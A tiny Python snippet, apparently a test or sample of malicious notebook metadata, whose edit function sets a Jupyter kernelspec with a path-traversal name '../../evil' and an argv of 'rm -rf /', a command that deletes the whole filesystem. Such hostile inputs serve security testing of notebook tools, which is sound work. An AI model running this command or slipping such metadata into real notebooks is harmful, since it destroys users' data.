def edit(nb):
    nb["metadata"] = {"kernelspec": {"name": "../../evil", "argv": ["rm", "-rf", "/"]}, "jupytext": {"formats": "ipynb,py"}}
